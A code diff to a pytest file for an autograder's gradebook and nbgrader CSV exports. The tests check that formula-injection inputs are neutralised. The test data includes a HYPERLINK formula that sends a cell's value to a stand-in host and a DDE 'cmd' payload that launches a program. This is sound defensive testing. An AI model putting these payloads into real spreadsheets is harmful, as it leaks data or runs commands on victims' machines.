@@ -4,9 +4,9 @@ import io
 
 import pytest
 
-from autograder import notebook_submissions
 from autograder.errors import KitError
 from autograder.reports import canvas, gradebook
+from autograder.reports.nbgrader_grades import NBGRADER_EXPORT_COLUMNS, GradesRow, nbgrader_csv
 
 EVIL = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
 
@@ -28,8 +28,8 @@ def test_a_formula_as_a_student_name_is_text_in_the_gradebook():
 
 
 def test_nbgraders_grades_csv_neutralises_formulas_too():
-    table = rows(notebook_submissions.nbgrader_csv([("+cmd|' /C calc'!A0", result("x", 5), {})]))
-    assert table[0] == list(notebook_submissions.NBGRADER_EXPORT_COLUMNS)
+    table = rows(nbgrader_csv([GradesRow("+cmd|' /C calc'!A0", result("x", 5))]))
+    assert table[0] == list(NBGRADER_EXPORT_COLUMNS)
     assert all(row[3] == "'+cmd|' /C calc'!A0" for row in table[1:])
 
 
